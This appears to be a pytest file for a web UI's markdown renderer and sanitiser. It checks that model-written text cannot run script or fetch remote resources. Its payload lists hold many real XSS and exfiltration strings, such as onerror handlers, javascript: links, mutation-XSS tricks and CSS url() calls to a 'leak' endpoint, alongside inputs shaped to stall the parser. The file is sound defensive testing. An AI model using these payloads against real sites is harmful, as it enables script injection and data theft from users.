"""Whatever a model writes, nothing of it runs and nothing of it is fetched (S65, S66)."""

from html.parser import HTMLParser

import pytest

from webui.ui.page.markdown import Blocks, render
from webui.ui.page.markup import clean

LEAK = "http://127.0.0.1:7999/leak"
PAYLOADS = [
    f"![i]({LEAK}?md)",
    f"![i][r]\n\n[r]: {LEAK}?ref",
    f"<img src={LEAK} onerror=document.body.dataset.x=1>",
    "<img src=x onerror=document.body.dataset.x=1>",
    "<script>document.body.dataset.x=1</script>",
    "<svg onload=document.body.dataset.x=1>",
    f"<iframe src={LEAK}></iframe>",
    '<iframe srcdoc="<script>parent.document.body.dataset.x=1</script>"></iframe>',
    "[c](javascript:document.body.dataset.x=1) [d](JaVaScRiPt:alert`1`) [e](data:text/html,<script>1</script>) "
    "<javascript:alert(1)>",
    f"<style>body{{background:url({LEAK})}}</style>",
    f'<div style="background-image:url({LEAK})">x</div>',
    f"<link rel=stylesheet href={LEAK}>",
    f"<video src={LEAK} autoplay></video><audio src={LEAK}></audio>",
    "<details open ontoggle=document.body.dataset.x=1>",
    f"<form action={LEAK}><input name=q><button>go</button></form>",
    f"$\\href{{javascript:document.body.dataset.x=1}}{{x}}$ $\\includegraphics{{{LEAK}}}$",
    "```mermaid\ngraph TD; A[<img src=x onerror=document.body.dataset.x=1>]\n```",
    f'<meta http-equiv=refresh content="0;url={LEAK}">',
    f"<base href={LEAK}/>",
    f"<object data={LEAK}></object><embed src={LEAK}>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=document.body.dataset.x=1>",
    f"<link rel=prefetch href={LEAK}>",
]
MORE = [
    '<p id="main" class="sidebar" style="position:fixed" name="x">y</p>',
    "[a](/ui/chats) [b](//evil.example/x) [c](ftp://x/y) [d](http:evil) [e](#main)",
    f'[a]({LEAK} "x\\" onmouseover=alert(1)")',
    f"[![i]({LEAK})]({LEAK}?link)",
    f"| <img src={LEAK}> |\n|---|\n| ![i]({LEAK}) |",
    '```"><img/src=x/onerror=alert(1)>\nx\n```',
    '```x"onload="y\nx\n```',
    "1. <img src=x onerror=alert(1)>\n\n> <svg/onload=alert(1)>",
    "https://x.example/\"onmouseover=alert(1)// https://x.example/'><img",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62;",
    "$</span><img src=x onerror=alert(1)>$ \\(</span><script>\\) $$\n</span><script>alert(1)</script>\n$$",
    "\\<img src=x> <!-- --><img src=x> <![CDATA[<img src=x>]]> <?php <img src=x> ?>",
]
TAGS = set(
    "p h3 h4 h5 h6 ul ol li blockquote hr pre code figure table thead tbody tr th td em strong s a br span div".split()
)
ATTRIBUTES = set(
    "dir data-lang data-align data-display data-done href target rel start tabindex role aria-label scope class".split()
)
CLASSES = {"code", "math", "blocked", "task", "table"}


class Inspector(HTMLParser):
    """Reads HTML as a browser would and notes whatever is not on the list."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.wrong.append(f"{tag} {name}={value}")
            if name == "href" and not (value or "").lower().startswith(("http://", "https://", "mailto:")):
                self.wrong.append(f"href={value}")
            if name == "class" and tag != "span" and not set((value or "").split()) <= CLASSES:
                self.wrong.append(f"class={value}")
        if tag == "a" and ("rel", "noopener noreferrer nofollow") not in attrs:
            self.wrong.append("a link that tells where it came from")


def found_wrong(blocks: list[str]) -> list[str]:
    inspector = Inspector()
    inspector.feed("\n".join(blocks))
    inspector.close()
    return inspector.wrong


@pytest.mark.parametrize("payload", PAYLOADS + MORE)
def test_nothing_active_and_nothing_remote_comes_through_whole(payload):
    assert found_wrong(render(payload)) == []
    assert found_wrong(render(f"Some text\n\n- {payload}\n\n> {payload}")) == []


@pytest.mark.parametrize("payload", PAYLOADS + MORE)
def test_nothing_active_and_nothing_remote_comes_through_one_letter_at_a_time(payload):
    blocks = Blocks()
    for letter in payload:
        blocks.feed(letter)
        assert found_wrong(blocks.html) == []
    blocks.finish()
    assert found_wrong(blocks.html) == []


def test_a_blocked_picture_says_so():
    assert render(f"![i]({LEAK}?q=secret)") == [
        f'<p dir="auto"><span class="blocked">remote image blocked: {LEAK}?q=secret</span></p>'
    ]


def test_the_second_wall_holds_alone():
    for payload in PAYLOADS + MORE:
        assert found_wrong([clean(payload)]) == [], payload


@pytest.mark.parametrize(
    "text",
    [
        "[" * 3000,
        "![" * 3000,
        "> " * 3000,
        "- " * 3000,
        "*a " * 3000,
        "$a" * 3000,
        "\\(" * 3000,
        "`" * 3000,
        "https://a.b/" + ")" * 9000,
        "".join("  " * i + "- a\n" for i in range(300)),
        "|" * 3000 + "\n" + "|-" * 3000,
        "\ud800\udc00\udfff",
        "\0\x01\x1b[31m",
        "\u202e\u2066abc",
    ],
)
def test_hostile_shapes_are_drawn_in_reasonable_time(text):
    assert found_wrong(render(text)) == []
